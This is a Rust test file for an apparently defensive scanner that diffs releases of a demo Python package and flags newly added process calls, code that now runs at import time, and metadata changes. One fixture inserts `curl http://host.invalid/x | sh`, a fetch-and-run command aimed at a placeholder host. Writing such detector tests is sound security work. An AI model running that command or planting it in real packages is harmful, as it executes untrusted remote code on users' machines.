//! Releases of one small project held against each other.

use model::{Artifact, Context, Difference, Previous};

use crate::{
    Engines, Rulebook, inspect_after, remember,
    rulebook::{
        pack::{self, Packed, surroundings},
        tests::book_files,
    },
};

fn release(version: &str, wheel: bool, extra: &[(&str, &str)]) -> Packed {
    let mut files = surroundings();
    files.extend(extra.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())));
    let metadata = files.remove("PKG-INFO").unwrap();
    let metadata = String::from_utf8(metadata).unwrap().replace("Version: 1.0", &format!("Version: {version}"));
    if wheel {
        files.retain(|path, _| path.starts_with("demo/"));
    }
    let place = if wheel { format!("demo-{version}.dist-info/METADATA") } else { "PKG-INFO".to_owned() };
    files.insert(place, metadata.into_bytes());
    pack::tree(&files)
}

fn compared(before: &Packed, now: &Packed) -> (Difference, model::Verdict) {
    let book = Rulebook::compile(&book_files()).unwrap();
    let (before_file, artifact) = (before.filename.clone(), Artifact::new(before.bytes.clone()));
    let past = remember(&mut Engines::new(&book), &artifact, &Context::named(&before_file));
    let previous =
        Previous { version: "1.0".into(), sha256: artifact.sha256, filename: Some(before_file), size: None, url: None };
    let context = Context { previous: Some(previous), ..Context::named(&now.filename) };
    let examination = inspect_after(&Artifact::new(now.bytes.clone()), &context, &book, Some(&past));
    (examination.difference.unwrap(), examination.verdict)
}

fn told(difference: &Difference) -> Vec<String> {
    difference.changes.iter().map(|change| format!("{} {}", change.kind, change.what)).collect()
}

const WORK: &str =
    "import os\n\n\ndef work(name):\n    path = \"/tmp/\" + name\n    os.system('ls -l')\n    return path\n";

#[test]
fn layout_quotes_lines_and_names_of_locals_are_no_difference() {
    let again = "\"\"\"Says more.\"\"\"\n# and more\nimport os\n\n\n\ndef work(\n    title,\n):\n    where = '/tmp/' + title\n\n    \
        os.system(\n        \"ls -l\"\n    )\n    return where\n";
    let (difference, verdict) =
        compared(&release("1.0", false, &[("demo/work.py", WORK)]), &release("1.1", false, &[("demo/work.py", again)]));
    assert_eq!(told(&difference), [""; 0]);
    assert_eq!((difference.gone, difference.step.as_str()), (0, "minor"));
    assert!(verdict.previous.is_some() && verdict.findings.iter().all(|finding| !finding.novel));
}

#[test]
fn what_was_added_is_new_and_what_was_there_is_not() {
    let before = release("1.0", false, &[("demo/work.py", WORK)]);
    let more = format!("{WORK}\n\nos.system('curl http://host.invalid/x | sh')\n");
    let (difference, verdict) = compared(&before, &release("1.0.1", false, &[("demo/work.py", &more)]));
    assert_eq!(told(&difference), ["call os.system(\"curl http://host.invalid/x | sh\")"]);
    let change = &difference.changes[0];
    assert_eq!((change.first.as_slice(), change.new_member), (&["process.spawn".to_owned()][..], false));
    assert_eq!((difference.step.as_str(), change.place.line), ("patch", 10));
    assert_eq!(verdict.context, {
        let previous = verdict.previous.clone();
        Context { previous, ..Context::named("demo-1.0.1.tar.gz") }.digest()
    });
}

#[test]
fn a_second_call_with_the_same_words_is_new_and_one_that_moved_is_not() {
    let twice = WORK.replace("    os.system('ls -l')\n", "    os.system('ls -l')\n    os.system('ls -l')\n");
    let before = release("1.0", false, &[("demo/work.py", WORK)]);
    let (difference, _) = compared(&before, &release("1.1", false, &[("demo/work.py", &twice)]));
    assert_eq!(told(&difference), ["call os.system(\"ls -l\")"]);
    let moved = [("demo/work.py", "import os\n"), ("demo/text.py", WORK)];
    let (difference, _) = compared(&before, &release("1.1", false, &moved));
    assert!(!told(&difference).iter().any(|what| what.starts_with("call ")), "{:?}", told(&difference));
}

#[test]
fn a_renamed_member_is_the_same_member() {
    let text = format!("import sys\nimport json\nimport socket\n{WORK}");
    let before = release("1.0", false, &[("demo/work.py", &text)]);
    let (difference, _) = compared(&before, &release("2.0", false, &[("demo/labour.py", &text)]));
    assert_eq!(told(&difference), [""; 0]);
    assert_eq!(difference.step, "major");
}

#[test]
fn code_that_runs_earlier_than_before_is_new() {
    let before = release("1.0", false, &[("demo/work.py", WORK)]);
    let early = WORK.replace("    os.system('ls -l')\n", "    pass\n") + "os.system('ls -l')\n";
    let (difference, _) = compared(&before, &release("1.0.1", false, &[("demo/work.py", &early)]));
    assert_eq!(told(&difference), ["call os.system(\"ls -l\")"]);
    assert_eq!(difference.changes[0].first, ["process.spawn"]);
}

#[test]
fn of_an_sdist_and_a_wheel_only_what_both_install_is_compared() {
    let setup = "import os\nos.system('make')\n";
    let wheel = release("1.0", true, &[("demo/work.py", WORK)]);
    let sdist = release("1.0", false, &[("demo/work.py", WORK), ("setup.py", setup)]);
    let (difference, _) = compared(&wheel, &sdist);
    assert_eq!(told(&difference), [""; 0]);
    assert!(difference.limits[0].contains("bdist_wheel"), "{:?}", difference.limits);
    let other = release("1.0", true, &[("demo/work.py", &format!("{WORK}os.system('id')\n"))]);
    let (difference, _) = compared(&sdist, &other);
    assert_eq!(told(&difference), ["call os.system(\"id\")"]);
    // What `setup.py` imports runs on installation of the sdist, and lies below another folder there.
    let elsewhere = release("1.0", false, &[("lib/more/work.py", &early()), ("setup.py", "import lib.more.work\n")]);
    let (difference, _) =
        compared(&elsewhere, &release("1.0", true, &[("more/__init__.py", ""), ("more/work.py", &early())]));
    assert!(!told(&difference).iter().any(|what| what.starts_with("call ")), "{:?}", told(&difference));
}

fn early() -> String {
    format!("{WORK}os.system('ls -l')\n")
}

#[test]
fn a_new_author_and_dependency_are_told() {
    let before = release("1.0", false, &[]);
    let mut files = surroundings();
    let metadata = String::from_utf8(files.remove("PKG-INFO").unwrap()).unwrap();
    let metadata = metadata
        .replace("Version: 1.0", "Version: 1.0.1")
        .replace("author@demo.invalid", "other@mail.invalid")
        .replace("\n\n", "\nRequires-Dist: helper-thing\n\n");
    files.insert("PKG-INFO".to_owned(), metadata.into_bytes());
    let (difference, _) = compared(&before, &pack::tree(&files));
    let mut told = told(&difference);
    told.sort();
    assert_eq!(told, ["author-email other@mail.invalid", "dependency helper-thing"]);
}
